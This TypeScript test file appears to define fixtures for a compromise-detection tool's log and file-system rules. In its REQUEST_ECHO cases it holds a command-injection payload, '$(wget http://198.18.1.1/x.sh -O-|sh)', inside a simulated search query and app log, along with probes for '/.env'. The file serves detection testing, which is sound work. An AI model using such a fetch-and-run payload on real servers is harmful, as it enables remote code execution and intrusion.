import { appLog, at, type Piece } from '../../moments/bundle-builder.js';
import { healthyBundle } from '../../moments/healthy-bundle.js';
import { access, layer, monitorLine, noHistory, nutsFrom } from '../../moments/pieces.js';
import { caseAt, patchedAt, quietLog, type RuleCase } from '../rule-case.js';

const now = '2026-11-20T12:00:00Z';
const probe = (status: number, path = '/.env') =>
  access([`104.23.1.2 - - [20/Nov/2026:11:20:05 +0000] "GET ${path} HTTP/1.1" ${status} 162 "-" "curl/8"`]);
const echo = '/search?q=$(wget%20http://198.18.1.1/x.sh%20-O-|sh)';

/** A report of Candor's own with one open finding. */
const own = (check: string): Piece => ({
  id: 'case.reports',
  file: 'candor.d/reports/0001.json',
  text: JSON.stringify({
    format: 'candor-report/1',
    id: '2026-11-19T1200Z-web-2',
    capturedAt: '2026-11-19T12:00:00Z',
    verdict: { status: 'COMPROMISED' },
    incidents: [],
    questions: [],
    results: [{ check, subject: 'host', state: 'fail', severity: 'critical', title: 't', fingerprint: 'aa' }],
  }),
});

/** Rules 44 to 49: reading. */
export const readingCases: readonly RuleCase[] = [
  {
    rule: 'FILTERED_VIEW',
    fires: [
      { title: 'a listing cut by grep', effect: /none/, moment: patchedAt(now, { ...quietLog, filtered: true }) },
    ],
    silent: [{ title: 'a whole listing', moment: patchedAt(now, quietLog) }],
  },
  {
    rule: 'REQUEST_ECHO',
    fires: [
      {
        title: 'a crawler’s command in a validation message',
        effect: /attempt/,
        moment: patchedAt(
          now,
          probe(400, echo),
          appLog([`${at('2026-11-20T11:20:05Z')} invalid query: $(wget http://198.18.1.1/x.sh -O-|sh)`]),
        ),
      },
    ],
    silent: [
      {
        title: 'a command that no request carries',
        moment: caseAt('2025-12-12T23:00:00Z', appLog([monitorLine('2025-12-12T22:00:00Z', nutsFrom('5.231.70.66'))])),
      },
      { title: 'the crawler alone', moment: patchedAt(now, probe(404, echo), quietLog) },
    ],
  },
  {
    rule: 'PACKAGE_OWNED',
    fires: [
      {
        title: 'ffmpeg of apk',
        effect: /not foreign/,
        moment: patchedAt(
          now,
          ...layer(
            ['A /usr/bin/ffmpeg'],
            [
              {
                path: '/usr/bin/ffmpeg',
                sizeBytes: 292832,
                mode: '0755',
                magic: 'elf',
                packageOwned: true,
                packageName: 'ffmpeg',
              },
            ],
          ),
        ),
      },
    ],
    silent: [
      {
        title: 'a program without an owner',
        moment: patchedAt(
          now,
          ...layer(
            ['A /usr/bin/ffmpeg'],
            [{ path: '/usr/bin/ffmpeg', sizeBytes: 292832, mode: '0755', magic: 'elf', packageOwned: false }],
          ),
        ),
      },
      { title: 'nothing was added', moment: patchedAt(now, ...layer([])) },
    ],
  },
  {
    rule: 'BACKGROUND_SCAN',
    fires: [{ title: 'refused', effect: /noted/, moment: patchedAt(now, probe(404)) }],
    silent: [
      { title: 'answered', moment: patchedAt(now, probe(200)) },
      { title: 'no requests', moment: patchedAt(now, quietLog) },
    ],
  },
  {
    rule: 'INCIDENTS_UNSEEN',
    fires: [
      { title: 'the app’s log was not read', effect: /unknown/, moment: patchedAt(now, noHistory) },
      { title: 'earlier reports were not looked for', moment: patchedAt(now, quietLog) },
    ],
    silent: [{ title: 'everything was seen', moment: healthyBundle() }],
  },
  {
    rule: 'EVIDENCE_VANISHED',
    fires: [
      {
        title: 'a finding that nobody looked for again',
        effect: /COMPROMISED|bad/,
        moment: patchedAt(now, quietLog, own('RTC-02')),
      },
    ],
    silent: [
      { title: 'a finding that is answered now', moment: patchedAt(now, quietLog, own('NXT-02')) },
      { title: 'no earlier report', moment: patchedAt(now, quietLog, noHistory) },
    ],
  },
];
